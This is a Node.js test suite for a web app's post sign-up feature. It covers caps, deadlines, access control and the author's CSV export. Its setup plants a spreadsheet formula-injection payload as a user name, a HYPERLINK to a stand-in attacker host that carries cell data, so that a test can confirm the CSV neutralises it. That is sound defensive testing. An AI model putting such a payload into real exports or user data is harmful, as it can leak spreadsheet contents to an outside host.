// Sign-ups end to end: a post created with a sign-up through the API and
// the composer (no JavaScript), its validation; signing up and withdrawing
// through the API and the post's buttons; the cap (409 when full), the
// deadline (refused after it); the `signup` object of the post JSON; the
// list — names and addresses for the author only (others get counts), and
// not even for the author once they may no longer see the post — and the
// author's CSV (attachment, no-store, RFC 4180, formula cells neutralised).
import { test, describe, before } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { useServer, PASSWORD } from './lib/server.mjs';
import { Client, assertApiError, RFC3339_UTC, parseForms, textOf } from './lib/http.mjs';

const USERS = {
	ann: { email: 'ann@example.com', name: 'Ann Author' },
	bob: { email: 'bob@example.com', name: 'Bob Volunteer' },
	cas: { email: 'cas@example.com', name: 'Cas Late' },
	dee: { email: 'dee@example.com', name: 'Dee, the "tester"' },
	eve: { email: 'eve@example.com', name: 'Eve Evil' },
	gus: { email: 'gus@example.com', name: 'Gus Guest', role: 'guest' },
	alf: { email: 'alf@example.com', name: 'Alf Alumnus', role: 'alumni' },
};
const server = useServer({ users: Object.values(USERS) });
const FUTURE = '2031-03-01T17:00:00Z';

let c;
const tok = {};
const ids = {};
const web = {};

const as = (who) => ({
	get: (path) => c.get(path, { bearer: tok[who] }),
	post: (path, json) => c.post(path, { bearer: tok[who], json }),
	put: (path) => c.put(path, { bearer: tok[who] }),
	del: (path) => c.delete(path, { bearer: tok[who] }),
});

function sql(text) {
	return execFileSync('sqlite3', ['-cmd', '.timeout 5000', join(server.dataDir, 'plein.db'), text],
		{ encoding: 'utf8' }).trim();
}

async function signupPost(who, signup, text = 'We need volunteers to test the new modem') {
	const r = await as(who).post('/api/v1/posts', { text, signup });
	assert.equal(r.status, 201, String(r));
	return r.json;
}

before(async () => {
	await server.ready;
	c = new Client(server.url);
	for (const [k, u] of Object.entries(USERS)) {
		tok[k] = (await new Client(server.url).apiSignIn(u.email, PASSWORD)).token;
		ids[k] = (await c.get('/api/v1/me', { bearer: tok[k] })).json.id;
		web[k] = new Client(server.url);
		await web[k].signIn(u.email, PASSWORD);
	}
	web.anon = new Client(server.url);
	// a name a spreadsheet would run as a formula
	sql(`UPDATE people SET name = '=HYPERLINK("http://evil.example/"&A1,"click")' WHERE id = ${ids.eve}`);
});

describe('creating', () => {
	test('POST /api/v1/posts with signup {cap, deadline}: the post JSON carries it', async () => {
		const p = await signupPost('ann', { cap: 20, deadline: FUTURE });
		assert.deepEqual(p.signup, { cap: 20, deadline: '2031-03-01T17:00:00Z', count: 0, mine: false, closed: false });
		const got = await as('bob').get(`/api/v1/posts/${p.id}`);
		assert.deepEqual(got.json.signup, p.signup);
		// no limit, no deadline; a Unix time; a plain date
		assert.deepEqual((await signupPost('ann', {})).signup, { cap: null, deadline: null, count: 0, mine: false, closed: false });
		assert.equal((await signupPost('ann', { deadline: 1930000000 })).signup.deadline, '2031-02-27T23:06:40Z');
		assert.match((await signupPost('ann', { cap: 3, deadline: '2031-03-01' })).signup.deadline, RFC3339_UTC);
		// a post without one: null
		const plain = await as('ann').post('/api/v1/posts', { text: 'Just news' });
		assert.equal(plain.json.signup, null);
	});

	test('refused fields: 422 with the field, and no post is written', async () => {
		const before = sql('SELECT count(*) FROM posts');
		const bad = [
			[{ cap: 0 }, 'signup.cap'], [{ cap: 100001 }, 'signup.cap'], [{ cap: '20' }, 'signup.cap'], [{ cap: 2.5 }, 'signup.cap'],
			[{ deadline: '2020-01-01T00:00:00Z' }, 'signup.deadline'], [{ deadline: 'next Friday' }, 'signup.deadline'],
			[{ deadline: '2031-02-30' }, 'signup.deadline'], [{ deadline: -5 }, 'signup.deadline'], [{ deadline: true }, 'signup.deadline'],
			['yes', 'signup'], [[1, 2], 'signup'],
		];
		for (const [signup, field] of bad) {
			const r = await as('ann').post('/api/v1/posts', { text: 'refused', signup });
			assertApiError(r, 422, 'invalid', { field });
			assert.ok(r.json.error.message.length > 10);
		}
		assert.equal(sql('SELECT count(*) FROM posts'), before);
	});

	test('the composer: "Add a sign-up" with places and a closing date, without JavaScript', async () => {
		const home = await web.ann.get('/');
		assert.match(home.text, /name="signup"/);
		assert.match(home.text, /name="signup_cap"[^>]*type="number"|type="number"[^>]*name="signup_cap"/);
		assert.match(home.text, /type="date"/);
		const csrf = await web.ann.csrfFrom('/', '/posts');
		const fd = new FormData();
		fd.set('_csrf', csrf);
		fd.set('text', 'Volunteers for the modem test, please');
		fd.set('visibility', 'organisation');
		fd.set('signup', '1');
		fd.set('signup_cap', '12');
		fd.set('signup_deadline', '2031-12-01');
		let r = await web.ann.post('/posts', { body: fd });
		assert.equal(r.status, 303, String(r));
		const id = Number(sql("SELECT max(id) FROM posts WHERE body = 'Volunteers for the modem test, please'"));
		const p = (await as('bob').get(`/api/v1/posts/${id}`)).json;
		assert.equal(p.signup.cap, 12);
		assert.match(p.signup.deadline, /^2031-12-0[12]T/);  // the end of 1 December, server local time

		// the fields count only with the box ticked
		const off = new FormData();
		off.set('_csrf', csrf);
		off.set('text', 'No sign-up wanted');
		off.set('signup_cap', '5');
		assert.equal((await web.ann.post('/posts', { body: off })).status, 303);
		const offId = Number(sql("SELECT max(id) FROM posts WHERE body = 'No sign-up wanted'"));
		assert.equal((await as('bob').get(`/api/v1/posts/${offId}`)).json.signup, null);

		const before = sql('SELECT count(*) FROM posts');
		for (const [cap, deadline] of [['lots', ''], ['0', ''], ['', '2020-01-01'], ['', '01/12/2031']]) {
			const bad = new FormData();
			bad.set('_csrf', csrf);
			bad.set('text', 'Refused sign-up');
			bad.set('signup', '1');
			bad.set('signup_cap', cap);
			bad.set('signup_deadline', deadline);
			r = await web.ann.post('/posts', { body: bad });
			assert.equal(r.status, 422, String(r));
			assert.match(r.text, /role="alert"/);
		}
		assert.equal(sql('SELECT count(*) FROM posts'), before);
	});
});

describe('signing up and withdrawing (API)', () => {
	test('the cap: two places, a third person gets 409; withdrawing frees a place', async () => {
		const p = await signupPost('ann', { cap: 2 });
		const path = `/api/v1/posts/${p.id}/signup`;
		let r = await as('bob').put(path);
		assert.equal(r.status, 200, String(r));
		assert.deepEqual(r.json, { cap: 2, deadline: null, count: 1, mine: true, closed: false });
		assert.equal((await as('bob').put(path)).json.count, 1);  // twice: still one place
		assert.equal((await as('dee').put(path)).json.count, 2);
		r = await as('cas').put(path);
		assertApiError(r, 409, 'full');
		assert.match(r.json.error.message, /place/);
		r = await as('bob').del(path);
		assert.equal(r.status, 200);
		assert.deepEqual([r.json.count, r.json.mine], [1, false]);
		assert.equal((await as('bob').del(path)).json.count, 1);  // not signed up: nothing changes
		assert.equal((await as('cas').put(path)).status, 200);
		assert.equal((await as('cas').get(`/api/v1/posts/${p.id}`)).json.signup.mine, true);
		assert.equal((await as('bob').get(`/api/v1/posts/${p.id}`)).json.signup.mine, false);
	});

	test('concurrent sign-ups never exceed the cap', async () => {
		const p = await signupPost('ann', { cap: 1 });
		const results = await Promise.all(['bob', 'cas', 'dee', 'eve'].map((w) => as(w).put(`/api/v1/posts/${p.id}/signup`)));
		assert.equal(results.filter((r) => r.status === 200).length, 1);
		assert.equal(results.filter((r) => r.status === 409).length, 3);
		assert.equal(sql(`SELECT count(*) FROM signup_entries WHERE post_id = ${p.id}`), '1');
	});

	test('after the deadline: signing up and withdrawing are refused with a message', async () => {
		const p = await signupPost('ann', { deadline: FUTURE });
		const path = `/api/v1/posts/${p.id}/signup`;
		assert.equal((await as('bob').put(path)).status, 200);
		sql(`UPDATE signups SET deadline = ${Math.floor(Date.now() / 1000) - 60} WHERE post_id = ${p.id}`);
		let r = await as('cas').put(path);
		assertApiError(r, 422, 'closed');
		assert.match(r.json.error.message, /closed/);
		assertApiError(await as('bob').del(path), 422, 'closed');
		r = await as('bob').get(`/api/v1/posts/${p.id}`);
		assert.deepEqual([r.json.signup.closed, r.json.signup.mine, r.json.signup.count], [true, true, 1]);
	});

	test('who may: not guests or alumni on organisation posts, not the signed out; a post without one 404', async () => {
		const p = await signupPost('ann', {});
		const path = `/api/v1/posts/${p.id}/signup`;
		assertApiError(await as('gus').put(path), 404, 'not_found');
		assertApiError(await as('alf').put(path), 404, 'not_found');
		assertApiError(await c.put(path), 401, 'unauthenticated');
		const plain = (await as('ann').post('/api/v1/posts', { text: 'no sign-up here' })).json;
		assertApiError(await as('bob').put(`/api/v1/posts/${plain.id}/signup`), 404, 'not_found');
		assertApiError(await as('bob').get(`/api/v1/posts/${plain.id}/signups`), 404, 'not_found');
		assertApiError(await as('bob').put('/api/v1/posts/999999/signup'), 404, 'not_found');
		// a deleted post
		assert.equal((await as('ann').del(`/api/v1/posts/${p.id}`)).status, 204);
		assertApiError(await as('bob').put(path), 404, 'not_found');
	});
});

describe('the list', () => {
	let post;
	before(async () => {
		post = await signupPost('ann', { cap: 10 });
		for (const w of ['bob', 'dee', 'eve']) assert.equal((await as(w).put(`/api/v1/posts/${post.id}/signup`)).status, 200);
	});

	test('the author gets names and addresses; others only the counts', async () => {
		let r = await as('ann').get(`/api/v1/posts/${post.id}/signups`);
		assert.equal(r.status, 200, String(r));
		assert.equal(r.json.signup.count, 3);
		assert.deepEqual(r.json.items.map((e) => e.person.email), [USERS.bob.email, USERS.dee.email, USERS.eve.email]);
		assert.match(r.json.items[0].created_at, RFC3339_UTC);
		r = await as('bob').get(`/api/v1/posts/${post.id}/signups`);
		assert.equal(r.status, 200);
		assert.deepEqual(Object.keys(r.json), ['signup']);
		assert.equal(r.json.signup.mine, true);
		assert.ok(!r.text.includes(USERS.dee.email));
		assertApiError(await as('gus').get(`/api/v1/posts/${post.id}/signups`), 404, 'not_found');
	});

	test('the CSV: the author only, as an attachment that is never cached; cells quoted, formulas neutralised', async () => {
		const url = `/posts/${post.id}/signup.csv`;
		const r = await web.ann.get(url);
		assert.equal(r.status, 200, String(r));
		assert.equal(r.contentType, 'text/csv; charset=utf-8');
		assert.equal(r.headers.get('content-disposition'), `attachment; filename="signups-post-${post.id}.csv"`);
		assert.equal(r.headers.get('cache-control'), 'no-store');
		assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
		assert.ok(r.buf.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'a UTF-8 byte order mark');
		const lines = r.text.slice(1).split('\r\n');
		assert.equal(lines[0], 'Name,E-mail,Signed up (UTC)');
		assert.match(lines[1], /^Bob Volunteer,bob@example\.com,\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
		assert.match(lines[2], /^"Dee, the ""tester""",dee@example\.com,/);
		assert.match(lines[3], /^"'=HYPERLINK\(""http:\/\/evil\.example\/""&A1,""click""\)",eve@example\.com,/);
		assert.equal(lines[4], '');
		assert.equal(lines.length, 5);
		for (const who of ['bob', 'dee']) assert.equal((await web[who].get(url)).status, 403);
		for (const who of ['gus', 'alf']) assert.equal((await web[who].get(url)).status, 404);
		const anon = await web.anon.get(url);
		assert.equal(anon.status, 303);
		assert.ok(!anon.text.includes('bob@example.com'));
	});

	test('in a closed group: members sign up; the author who leaves the group loses the list', async () => {
		const gr = await as('ann').post('/api/v1/groups', { name: 'Modem lab', kind: 'closed' });
		assert.equal(gr.status, 201, String(gr));
		const gid = gr.json.id;
		sql(`INSERT INTO group_members(group_id, person_id, role, joined_at) VALUES (${gid}, ${ids.bob}, 'owner', 1), (${gid}, ${ids.gus}, 'member', 1)`);
		const p = await signupPost('ann', { cap: 5 }, 'Group volunteers');
		sql(`UPDATE posts SET group_id = ${gid}, visibility = 'group' WHERE id = ${p.id}`);
		const path = `/api/v1/posts/${p.id}/signup`;
		assert.equal((await as('gus').put(path)).status, 200);  // a guest of the group
		assertApiError(await as('cas').put(path), 404, 'not_found');  // not a member: the post is hidden
		assertApiError(await as('cas').get(`/api/v1/posts/${p.id}/signups`), 404, 'not_found');
		assert.equal((await web.cas.get(`/posts/${p.id}/signup.csv`)).status, 404);
		assert.equal((await web.ann.get(`/posts/${p.id}/signup.csv`)).status, 200);
		const left = await as('ann').del(`/api/v1/groups/${gid}/members/${ids.ann}`);
		assert.ok(left.status === 204 || left.status === 200, String(left));
		const r = await web.ann.get(`/posts/${p.id}/signup.csv`);
		assert.equal(r.status, 404);
		assert.ok(!r.text.includes(USERS.gus.email));
		assertApiError(await as('ann').get(`/api/v1/posts/${p.id}/signups`), 404, 'not_found');
	});
});

describe('the post on the web', () => {
	test('shows places taken and the closing date, Sign up and Withdraw work as forms', async () => {
		const p = await signupPost('ann', { cap: 2, deadline: FUTURE }, 'Help with the move');
		let page = await web.cas.get(`/posts/${p.id}`);
		assert.equal(page.status, 200);
		let text = textOf(page.text);
		assert.ok(text.includes('0 of 2 places taken'), text);
		assert.match(text, /closes 1 Mar 2031/);
		assert.ok(!text.includes('Download list (CSV)'));
		const join = parseForms(page.text).find((f) => f.action === `/posts/${p.id}/signup`);
		assert.ok(join, 'a Sign up form');
		let r = await web.cas.post(join.action, { form: { _csrf: join.values._csrf } });
		assert.equal(r.status, 303);
		assert.equal(r.location, `/posts/${p.id}`);
		page = await web.cas.get(`/posts/${p.id}`);
		text = textOf(page.text);
		assert.ok(text.includes('1 of 2 places taken'));
		assert.ok(text.includes('You are signed up'));
		assert.ok(text.includes('You have signed up.'));
		const withdraw = parseForms(page.text).find((f) => f.action === `/posts/${p.id}/signup/withdraw`);
		assert.ok(withdraw, 'a Withdraw form');
		assert.equal((await web.cas.post(withdraw.action, { form: { _csrf: withdraw.values._csrf } })).status, 303);
		assert.equal((await as('cas').get(`/api/v1/posts/${p.id}`)).json.signup.count, 0);
		// the author's view: the CSV link
		page = await web.ann.get(`/posts/${p.id}`);
		assert.ok(textOf(page.text).includes('Download list (CSV)'));
		assert.ok(page.text.includes(`href="/posts/${p.id}/signup.csv"`));
		// streams show it too
		assert.ok(textOf((await web.bob.get('/discover')).text).includes('0 of 2 places taken'));
		// without the form token: refused
		assert.equal((await web.cas.post(`/posts/${p.id}/signup`, { form: {} })).status, 403);
	});

	test('full and closed: no button, and a forced form gets a message', async () => {
		const p = await signupPost('ann', { cap: 1 }, 'One seat only');
		assert.equal((await as('bob').put(`/api/v1/posts/${p.id}/signup`)).status, 200);
		let page = await web.cas.get(`/posts/${p.id}`);
		assert.ok(textOf(page.text).includes('All places are taken.'));
		assert.ok(!parseForms(page.text).some((f) => f.action === `/posts/${p.id}/signup`));
		let r = await web.cas.postForm(`/posts/${p.id}/signup`, {});
		assert.equal(r.status, 409);
		assert.ok(textOf(r.text).includes('Every place is taken already.'));
		sql(`UPDATE signups SET deadline = ${Math.floor(Date.now() / 1000) - 60} WHERE post_id = ${p.id}`);
		page = await web.bob.get(`/posts/${p.id}`);
		assert.match(textOf(page.text), /closed \d+ \w+/);
		assert.ok(!parseForms(page.text).some((f) => f.action === `/posts/${p.id}/signup/withdraw`));
		r = await web.bob.postForm(`/posts/${p.id}/signup/withdraw`, {});
		assert.equal(r.status, 422);
		assert.ok(textOf(r.text).includes('Sign-ups for this post have closed.'));
		// a guest cannot see an organisation post at all
		assert.equal((await web.gus.postForm(`/posts/${p.id}/signup`, {}, { csrfPage: '/settings' })).status, 404);
	});
});
